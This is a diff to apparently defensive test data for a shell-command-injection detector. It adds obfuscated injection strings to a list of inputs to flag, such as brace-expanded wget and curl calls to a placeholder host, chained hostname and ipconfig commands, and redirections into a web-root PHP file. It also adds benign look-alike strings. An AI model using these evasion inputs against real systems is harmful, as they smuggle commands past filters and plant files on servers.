@@ -53,6 +53,19 @@ COMMANDS = [
     "powershell.exe -nop -w hidden",
     "x;(uname -a)",
     "( hostname )",
+    "{wget,-q,x.example/a}",
+    "{c\\\\u$z\\\\rl,x.example}",
+    "set nu \\!hostname",
+    "a=1&ipconfig/all",
+    "x|tasklist/v",
+    ">/tmp/.cache.sh",
+    "2>>/var/www/html/x.php",
+    "cd ${HOME%%/*}",
+    "source ./setup.sh",
+    "start payload.bat",
+    "'ll' /etc/",
+    "ping$() 203.0.113.4",
+    "netstat$u -an",
 ]
 
 
@@ -82,6 +95,18 @@ LOOK_ALIKES = [
     "assert(id > 0);",
     "user = load_user(id)",
     "rows.map(ls => ls.trim())",
+    "ls -la",
+    "git status",
+    "/usr/local/bin/python3",
+    "a{1,3}b",
+    "color: red !important",
+    "if (!done && !ready) return",
+    "docs/ipconfig/all.md",
+    "> /tmp is nearly full",
+    "total: ${PORT:-8080}",
+    "`${count%2}`",
+    "source of truth.md",
+    "pip install requests",
 ]
 
 
